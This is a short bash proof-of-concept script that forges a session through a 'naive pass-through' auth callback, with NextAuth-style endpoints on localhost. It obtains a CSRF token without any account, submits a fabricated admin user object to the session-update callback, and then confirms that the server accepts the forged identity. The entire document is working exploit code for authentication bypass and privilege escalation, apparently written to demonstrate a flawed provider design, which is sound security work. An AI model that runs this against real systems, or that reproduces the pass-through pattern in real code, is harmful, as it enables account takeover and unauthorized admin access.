#!/usr/bin/env bash
# Attack (a): become any user, with any role, through the naive pass-through provider.
# No account needed: the CSRF token is a double-submit cookie bound to no session.
set -euo pipefail
BASE="${BASE:-http://localhost:3000}"
JAR="$(mktemp)"

# 1. Anyone can have a CSRF token (and its cookie).
CSRF="$(curl -sf -c "$JAR" "$BASE/api/auth/csrf" | jq -r .csrfToken)"

# 2. Hand the naive provider the user we want to be. It returns it as is.
curl -sf -b "$JAR" -c "$JAR" "$BASE/api/auth/callback/session-update-naive" \
  --data-urlencode "csrfToken=$CSRF" \
  --data-urlencode 'user={"id":"admin-0001","name":"Mallory","role":"admin","onboardingStep":"COMPLETED"}' \
  --data-urlencode 'json=true' >/dev/null

# 3. The server now vouches for the forged identity.
curl -sf -b "$JAR" "$BASE/api/auth/session" | jq -c .user
